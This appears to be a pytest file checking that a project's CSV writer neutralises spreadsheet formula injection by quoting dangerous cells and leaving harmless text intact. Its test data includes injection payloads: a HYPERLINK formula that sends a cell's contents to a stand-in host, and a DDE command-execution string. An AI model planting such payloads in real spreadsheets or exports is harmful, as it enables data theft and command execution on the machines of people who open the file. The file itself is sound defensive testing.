"""Text in tables is no formula to a spreadsheet, and the same text to whatever reads the table."""

import csv
import re
from pathlib import Path

import pytest

import mivolo_lite
from mivolo_lite.csv_file import text_of, written_csv
from mivolo_lite.packing.sources.table import read_table

FORMULAS = [
    '=HYPERLINK("http://a.b/?"&A1;"photo")', "=cmd|' /C calc'!A0", "+SUM(1)", "-2+A1!B2", "@SUM(1)", "\t=SUM(1)",
    "\r\n=SUM(1)", "＝SUM(1)", "='file:///a'#$b.c!A1",
]  # fmt: skip
HARMLESS = ["-0Ab3x.jpg", "-", "=", "-1.5", "+1", "@name", "a=b(c)", "photo (1).jpg", "é", "'quoted'", "", "3 | 4"]


def read(path):
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_a_formula_is_text_and_other_text_stays_as_it_is(tmp_path):
    with written_csv(tmp_path / "a.csv") as writer:
        for cell in FORMULAS + HARMLESS:
            writer.writerow([cell, -1.5, None])
    cells = read(tmp_path / "a.csv")
    assert [row[0] for row in cells] == [f"'{cell}" for cell in FORMULAS] + HARMLESS
    assert {tuple(row[1:]) for row in cells} == {("-1.5", "")}


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS, *(f"'{text}" for text in FORMULAS), "''=SUM(1)"])
def test_what_a_command_wrote_it_reads_again_as_it_was(text, tmp_path):
    with written_csv(tmp_path / "a.csv") as writer:
        writer.writerow(["path", "age"])
        writer.writerow([text, 1])
    assert text_of(read(tmp_path / "a.csv")[1][0]) == text
    assert read_table(tmp_path / "a.csv").line(0).cells["path"] == text.strip()  # it has no blanks around cells


def test_every_table_is_written_there():
    another = re.compile(r"\b(csv\w*\.(writer|DictWriter)|to_csv)\(")
    files = [path for path in Path(mivolo_lite.__file__).parent.rglob("*.py") if path.name != "csv_file.py"]
    assert not [path for path in files if another.search(path.read_text("utf-8"))]
